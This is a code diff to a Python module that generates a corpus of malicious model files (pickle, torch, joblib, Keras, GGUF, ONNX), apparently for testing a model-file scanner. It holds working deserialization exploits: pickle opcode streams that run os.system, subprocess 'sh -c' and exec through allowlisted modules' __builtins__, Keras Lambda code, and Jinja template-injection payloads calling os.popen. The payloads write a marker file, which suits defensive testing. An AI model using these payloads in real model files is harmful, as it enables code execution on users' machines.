@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import io
 import json
+import marshal
 import os
 import pickle
 import struct
@@ -20,6 +21,7 @@ from collections.abc import Callable
 from pathlib import Path
 
 import numpy as np
+from model_corpus_loaders import MaliciousSample
 
 P = pickle
 
@@ -66,9 +68,21 @@ class Reduce:
         return self.func, self.args
 
 
+def _dill_function_call(code: str) -> bytes:
+    """A dill pickle that rebuilds a function from its code (dill._dill._create_code) and
+    calls it."""
+    import types
+
+    import dill
+
+    func = types.FunctionType(compile(code, "<payload>", "exec"), {})
+    return dill.dumps(Reduce(func), protocol=4)
+
+
 def raw_pickles(m: Path) -> dict[str, bytes]:
     """Hand-assembled pickle streams, one bypass each."""
     code, cmd = pycode(m), shell(m)
+    codeobj = marshal.dumps(compile(code, "<payload>", "exec"))
     proto4 = b"\x80\x04"
     return {
         "os_system_p0": call0("os", "system", cmd) + b".",
@@ -76,21 +90,24 @@ def raw_pickles(m: Path) -> dict[str, bytes]:
         "builtins_exec_stack_global": proto4 + sglob("builtins", "exec") + u(code) + b"\x85R.",
         "py2_builtin_eval": b"\x80\x02" + glob("__builtin__", "eval") + u(code) + b"\x85R.",
         "subprocess_check_output": proto4 + sglob("subprocess", "check_output")
-        + b"]" + u("true") + b"a\x85R.",
+        + b"](" + u("sh") + u("-c") + u(cmd) + b"e\x85R.",
         "runpy_run_path": call0("runpy", "run_path", "/nonexistent/x.py") + b".",
         "pkgutil_resolve_name": proto4 + sglob("pkgutil", "resolve_name") + u("os:system")
         + b"\x85R" + u(cmd) + b"\x85R.",
-        "timeit_stmt": proto4 + sglob("timeit", "timeit") + u(code) + b"K\x01\x86R.",
+        "timeit_stmt": proto4 + sglob("timeit", "timeit") + b"(" + u(code) + u("pass")
+        + sglob("time", "perf_counter") + b"K\x01tR.",
         "pip_main": call0("pip", "main", "--version") + b".",
         "importlib_import_module": proto4 + sglob("importlib", "import_module") + u("os")
         + b"\x85R.",
         "inspect_getattr": proto4 + sglob("inspect", "getattr_static") + b"N" + u("x")
         + b"\x86R.",
         "dotted_pathlib_os_system": proto4 + sglob("pathlib", "os.system") + u(cmd) + b"\x85R.",
-        "dotted_allowlisted_prefix": proto4 + sglob("collections", "OrderedDict.__init__")
-        + b")R.",
-        "dotted_torch_utils": proto4 + sglob("torch._utils", "_rebuild_tensor_v2.__globals__")
-        + b".",
+        # A function's __builtins__ reaches exec from under any allowed module.
+        "dotted_allowlisted_prefix": proto4 + sglob("collections", "namedtuple.__builtins__.get")
+        + u("exec") + b"\x85R" + u(code) + b"\x85R.",
+        "dotted_torch_utils": proto4
+        + sglob("torch._utils", "_rebuild_tensor_v2.__builtins__.get") + u("exec") + b"\x85R"
+        + u(code) + b"\x85R.",
         "memo_stack_global": proto4 + u("os") + b"\x94" + u("system") + b"\x94" + b"0" + b"0"
         + b"h\x00h\x01\x93" + u(cmd) + b"\x85R.",
         "memo_overwrite": proto4 + u("collections") + b"q\x01" + u("os") + b"q\x01" + b"00"
@@ -102,42 +119,48 @@ def raw_pickles(m: Path) -> dict[str, bytes]:
         "obj_opcode": b"(" + glob("os", "system") + s0(cmd) + b"o.",
         "newobj_popen": b"\x80\x02" + glob("subprocess", "Popen") + b")\x81.",
         "newobj_ex": proto4 + sglob("subprocess", "Popen") + b")}\x92.",
-        "call_of_call_result": proto4 + sglob("collections", "OrderedDict") + b")R)R.",
+        "call_of_call_result": proto4 + sglob("operator", "methodcaller") + u("system") + u(cmd)
+        + b"\x86R" + sglob("importlib", "import_module") + u("os") + b"\x85R\x85R.",
+        # _reconstructor(cls, base, state) runs base.__init__(obj, state).
         "reconstructor_higher_order": b"\x80\x02" + glob("copy_reg", "_reconstructor")
-        + glob("collections", "OrderedDict") + b")R" + glob("__builtin__", "object") + b"N\x87R.",
+        + glob("subprocess", "Popen") + glob("subprocess", "Popen") + b"](" + u("sh") + u("-c")
+        + u(cmd) + b"e\x87R.",
         "build_setstate_exec": proto4 + sglob("collections", "OrderedDict") + b")R"
         + b"N}" + u("__setstate__") + sglob("builtins", "exec") + b"s\x86b" + u(code) + b"b.",
         "second_pickle_payload": pickle.dumps({"ok": 1}) + call0("os", "system", cmd) + b".",
         "broken_after_payload": call0("os", "system", cmd),
         "unknown_opcode_after_payload": call0("os", "system", cmd) + b"\xff.",
         "underflow_after_payload": call0("os", "system", cmd) + b"00000.",
-        "proto_midstream": b"(" + b"\x80\x04" + sglob("os", "system") + s0(cmd) + b"tR.",
+        "proto_midstream": u("os") + b"\x80\x04" + u("system") + b"\x93(" + s0(cmd) + b"tR.",
         "frame_lie": proto4 + b"\x95" + struct.pack("<Q", 3) + sglob("os", "system") + u(cmd)
         + b"\x85R.",
         "functools_partial": proto4 + sglob("functools", "partial") + sglob("os", "system")
         + u(cmd) + b"\x86R)R.",
-        "operator_attrgetter": proto4 + sglob("operator", "attrgetter") + u("system") + b"\x85R.",
+        "operator_attrgetter": proto4 + sglob("operator", "attrgetter") + u("system") + b"\x85R"
+        + sglob("importlib", "import_module") + u("os") + b"\x85R\x85R" + u(cmd) + b"\x85R.",
         "webbrowser_open": call0("webbrowser", "open", "http://127.0.0.1:9/") + b".",
         "socket_connection": proto4 + sglob("socket", "create_connection") + u("127.0.0.1")
         + b"K\x09\x86\x85R.",
         "shutil_rmtree": call0("shutil", "rmtree", "/nonexistent-mlward") + b".",
         "ctypes_cdll": call0("ctypes", "CDLL", "libc.so.6") + b".",
         "marshal_types_function": proto4 + sglob("types", "FunctionType") + sglob("marshal", "loads")
-        + b"C\x00\x85R}\x86R.",
+        + b"B" + struct.pack("<I", len(codeobj)) + codeobj + b"\x85R}\x86R)R.",
         "torch_load_reentry": proto4 + sglob("torch", "load") + u("/nonexistent.pt") + b"\x85R.",
         "numpy_load_reentry": proto4 + sglob("numpy", "load") + u("/nonexistent.npy") + b"\x85R.",
         "joblib_load_reentry": proto4 + sglob("joblib", "load") + u("/nonexistent.j") + b"\x85R.",
         "code_interact": call0("code", "interact", "x") + b".",
         "sys_modules": proto4 + sglob("sys", "modules") + b".",
-        "asyncio_subprocess": proto4 + sglob("asyncio.subprocess", "create_subprocess_shell")
-        + u(cmd) + b"\x85R.",
+        "asyncio_subprocess": proto4 + sglob("asyncio", "run")
+        + sglob("asyncio.subprocess", "create_subprocess_shell") + u(cmd) + b"\x85R\x85R.",
         "unknown_library_function": proto4 + sglob("mylib.evil", "run") + b")R.",
         "main_module_class": proto4 + sglob("__main__", "Exploit") + b")\x81.",
-        "dill_create_code": proto4 + sglob("dill._dill", "_create_code") + b")R.",
-        "dill_load_type_codetype": proto4 + sglob("dill._dill", "_load_type") + u("CodeType")
-        + b"\x85R)R.",
-        "pandas_hdfstore": proto4 + sglob("pandas", "HDFStore") + u("/tmp/x.h5") + b"\x85R.",
-        "numpy_memmap": proto4 + sglob("numpy", "memmap") + u("/etc/hostname") + b"\x85R.",
+        "dill_create_code": _dill_function_call(code),
+        "dill_load_type_codetype": proto4 + sglob("dill._dill", "_load_type") + u("FunctionType")
+        + b"\x85R" + sglob("marshal", "loads") + b"B" + struct.pack("<I", len(codeobj)) + codeobj
+        + b"\x85R}\x86R)R.",
+        "pandas_hdfstore": proto4 + sglob("pandas", "HDFStore") + u(str(m)) + b"\x85R.",
+        "numpy_memmap": proto4 + sglob("numpy", "memmap") + b"(" + u(str(m)) + u("uint8")
+        + u("w+") + b"K\x00K\x01\x85t" + b"R.",
     }
 
 
@@ -254,27 +277,31 @@ def _keras_zip(config: dict[str, object]) -> bytes:
                  ("metadata.json", b'{"keras_version": "3.0.0"}')])
 
 
-def keras_samples(out: Path, m: Path) -> list[Path]:
-    """Keras configs with Lambda code, foreign modules and custom objects."""
-    import base64
-    import marshal
+def _keras_models(out: Path, m: Path) -> list[Path]:
+    """Models that Keras itself saved, with a Lambda whose code writes the marker."""
+    os.environ.setdefault("KERAS_BACKEND", "torch")
+    import keras
 
+    source = f"lambda x: (open({str(m)!r}, 'w').write('pwned'), x)[1]"
+    seq = keras.Sequential([keras.Input((2,)), keras.layers.Dense(1),
+                            keras.layers.Lambda(eval(source))])
+    inputs = keras.Input((3, 2))
+    nested = keras.layers.TimeDistributed(keras.layers.Lambda(eval(source)))(inputs)
+    paths = [out / "keras_lambda.keras", out / "keras_nested_lambda.keras",
+             out / "keras_lambda_legacy.h5"]
+    seq.save(paths[0])
+    keras.Model(inputs, nested).save(paths[1])
+    seq.save(paths[2])
+    return paths
+
+
+def keras_samples(out: Path, m: Path) -> list[Path]:
+    """Keras models with Lambda code (saved by Keras), foreign modules and custom objects."""
     out.mkdir(parents=True, exist_ok=True)
-    code = base64.b64encode(marshal.dumps(compile(pycode(m), "<x>", "exec"))).decode()
-    lam = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
-           "config": {"name": "l", "function": {"class_name": "__lambda__",
-                                                 "config": {"value": [code, None, None]}}}}
     dense = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 1},
              "registered_name": None}
-    seq = {"module": "keras", "class_name": "Sequential", "registered_name": None,
-           "config": {"layers": [dense, lam]}}
-    functional = {"module": "keras.src.models.functional", "class_name": "Functional",
-                  "registered_name": "Functional", "config": {"layers": [
-                      {"module": "keras.layers", "class_name": "TimeDistributed",
-                       "registered_name": None, "config": {"layer": seq}}]}}
-    paths = [
-        _write(out, "keras_lambda.keras", _keras_zip(seq)),
-        _write(out, "keras_nested_lambda.keras", _keras_zip(functional)),
+    return [
+        *_keras_models(out, m),
         _write(out, "keras_os_module.keras", _keras_zip(
             {"module": "keras", "class_name": "Sequential", "registered_name": None,
              "config": {"layers": [{"module": "os", "class_name": "system",
@@ -289,18 +316,6 @@ def keras_samples(out: Path, m: Path) -> list[Path]:
              "config": {"layers": [{"module": "evil_pkg.layers", "class_name": "Backdoor",
                                     "config": {}, "registered_name": "evil>Backdoor"}]}})),
     ]
-    import h5py
-
-    h5 = out / "keras_lambda_legacy.h5"
-    legacy_lambda = {"class_name": "Sequential", "config": {"layers": [
-        {"class_name": "Lambda", "config": {"name": "l", "function": [code, None, None],
-                                           "function_type": "lambda"}}]}}
-    with h5py.File(h5, "w") as f:
-        f.attrs["model_config"] = json.dumps(legacy_lambda)
-        f.attrs["keras_version"] = "2.15.0"
-        f.create_dataset("w", data=np.ones(2))
-    paths.append(h5)
-    return paths
 
 
 def _pb_varint(n: int) -> bytes:
@@ -353,10 +368,15 @@ def other_format_samples(out: Path, m: Path) -> list[Path]:
         p = out / name
         onnx.save(helper.make_model(graph), p)
         paths.append(p)
+    cmd = shell(m)
     templates = {
-        "gguf_ssti.gguf": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
-        "gguf_ssti_cycler.gguf": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
-        "gguf_ssti_attr.gguf": "{{ (messages|attr('\\x5f\\x5fclass\\x5f\\x5f')) }}",
+        "gguf_ssti.gguf": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}"
+        "{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['open']("
+        f"{str(m)!r}, 'w').write('pwned') }}}}{{% endif %}}{{% endfor %}}",
+        "gguf_ssti_cycler.gguf": f"{{{{ cycler.__init__.__globals__.os.popen({cmd!r}).read() }}}}",
+        "gguf_ssti_attr.gguf": "{{ (cycler|attr('\\x5f\\x5finit\\x5f\\x5f')"
+        "|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os'].popen("
+        f"{cmd!r}).read() }}}}",
     }
     for name, template in templates.items():
         p = out / name
@@ -371,12 +391,92 @@ def other_format_samples(out: Path, m: Path) -> list[Path]:
     return paths
 
 
-def build_malicious(out: Path, marker: Path) -> list[Path]:
-    """Write the whole malicious corpus under ``out``; payloads write ``marker`` only."""
+# How a victim loads each sample and what proves its payload ran (see model_corpus_loaders);
+# a sample not listed is a pickle whose payload writes the marker under pickle.load.
+_PROOF: dict[str, tuple[str, str]] = {
+    "second_pickle_payload.pkl": ("pickle.load twice", "marker"),
+    "runpy_run_path.pkl": ("pickle.load", "call:runpy.run_path"),
+    "pip_main.pkl": ("pickle.load", "call:pip.main"),
+    "importlib_import_module.pkl": ("pickle.load", "call:importlib.import_module"),
+    "inspect_getattr.pkl": ("pickle.load", "call:inspect.getattr_static"),
+    "ext_code.pkl": ("pickle.load", "inert:extension code 1 is not registered (copyreg) in "
+                                    "any real loading process"),
+    "newobj_popen.pkl": ("pickle.load", "inert:NEWOBJ only calls Popen.__new__; no process "
+                                        "starts"),
+    "newobj_ex.pkl": ("pickle.load", "inert:NEWOBJ_EX only calls Popen.__new__; no process "
+                                     "starts"),
+    "webbrowser_open.pkl": ("pickle.load", "call:webbrowser.open"),
+    "socket_connection.pkl": ("pickle.load", "audit:socket.connect"),
+    "shutil_rmtree.pkl": ("pickle.load", "audit:shutil.rmtree"),
+    "ctypes_cdll.pkl": ("pickle.load", "audit:ctypes.dlopen"),
+    "torch_load_reentry.pkl": ("pickle.load", "call:torch.load"),
+    "numpy_load_reentry.pkl": ("pickle.load", "call:numpy.load"),
+    "joblib_load_reentry.pkl": ("pickle.load", "call:joblib.load"),
+    "code_interact.pkl": ("pickle.load", "call:code.interact"),
+    "sys_modules.pkl": ("pickle.load", "inert:only resolves sys.modules; calls nothing"),
+    "unknown_library_function.pkl": ("pickle.load", "inert:runs only where a package "
+                                                    "mylib.evil is installed"),
+    "main_module_class.pkl": ("pickle.load", "inert:runs only where __main__ defines Exploit"),
+    "pandas_hdfstore.pkl": ("pickle.load", "call:pandas.HDFStore.__init__"),
+    "torch_zip_reduce.pt": ("torch.load", "marker"),
+    "torch_zip_odd_member.pt": ("torch.load", "inert:torch.load reads data.pkl only, never "
+                                              "another member"),
+    "torch_zip_no_central_dir.pt": ("torch.load", "inert:torch.load refuses a zip without "
+                                                  "its central directory"),
+    "torch_zip_name_mismatch.pt": ("torch.load", "marker"),
+    "torch_zip_prepended.pt": ("torch.load", "inert:torch.load refuses a zip with bytes "
+                                             "in front"),
+    "zip_hidden_local_member.zip": ("zipfile+pickle.load", "inert:the member is only in a "
+                                    "local header; zipfile-based loaders never see it"),
+    "torch_legacy_4th_pickle.pt": ("torch.load", "marker"),
+    "torch_legacy_tar.pt": ("torch.load", "marker"),
+    "joblib_reduce.joblib": ("joblib.load", "marker"),
+    "joblib_zlib.joblib": ("joblib.load", "marker"),
+    "joblib_object_array.joblib": ("joblib.load", "marker"),
+    "object_array.npy": ("numpy.load", "marker"),
+    "object_array.npz": ("numpy.load npz", "marker"),
+    "pickle.pkl.gz": ("gzip+pickle.load", "marker"),
+    "archive.tar": ("tarfile+pickle.load", "marker"),
+    "nested.zip": ("zip-in-zip+pickle.load", "marker"),
+    "archive.7z": ("py7zr+pickle.load", "marker"),
+    "keras_lambda.keras": ("keras.models.load_model", "marker"),
+    "keras_nested_lambda.keras": ("keras.models.load_model", "marker"),
+    "keras_lambda_legacy.h5": ("keras.models.load_model", "marker"),
+    "keras_os_module.keras": ("keras.models.load_model", "inert:Keras 3 imports no module "
+                                                         "outside keras for a layer"),
+    "keras_builtins_function.keras": ("keras.models.load_model", "inert:Keras 3 refuses a "
+                                      "builtins function as an activation"),
+    "keras_custom_object.keras": ("keras.models.load_model", "inert:runs only where evil_pkg "
+                                                             "is installed"),
+    "onnx_traversal.onnx": ("onnx.load", "inert:onnx refuses external data outside the "
+                                         "model directory"),
+    "onnx_absolute.onnx": ("onnx.load", "inert:onnx refuses an absolute external data path"),
+    "saved_model.pb": ("tensorflow.saved_model.load", "unverified:a hand-built graph; "
+                       "TensorFlow is not installed to load it"),
+}
+_GGUF = ("gguf chat template (unsandboxed jinja2)", "marker")
+
+
+def build_malicious_samples(out: Path, marker: Path) -> list[MaliciousSample]:
+    """Write the whole malicious corpus under ``out`` with each sample's loader and proof.
+
+    Payloads write ``marker`` only; pass a relative path to have them write it in the
+    working directory of whatever loads them.
+    """
     out.mkdir(parents=True, exist_ok=True)
     paths = [_write(out / "pickle", f"{name}.pkl", data)
              for name, data in raw_pickles(marker).items()]
     paths += container_samples(out / "containers", marker)
     paths += keras_samples(out / "keras", marker)
     paths += other_format_samples(out / "other", marker)
-    return paths
+    samples = []
+    for path in paths:
+        loader, evidence = (_GGUF if path.suffix == ".gguf"
+                            else _PROOF.get(path.name, ("pickle.load", "marker")))
+        samples.append(MaliciousSample(path, loader, evidence))
+    return samples
+
+
+def build_malicious(out: Path, marker: Path) -> list[Path]:
+    """Write the whole malicious corpus under ``out``; payloads write ``marker`` only."""
+    return [s.path for s in build_malicious_samples(out, marker)]
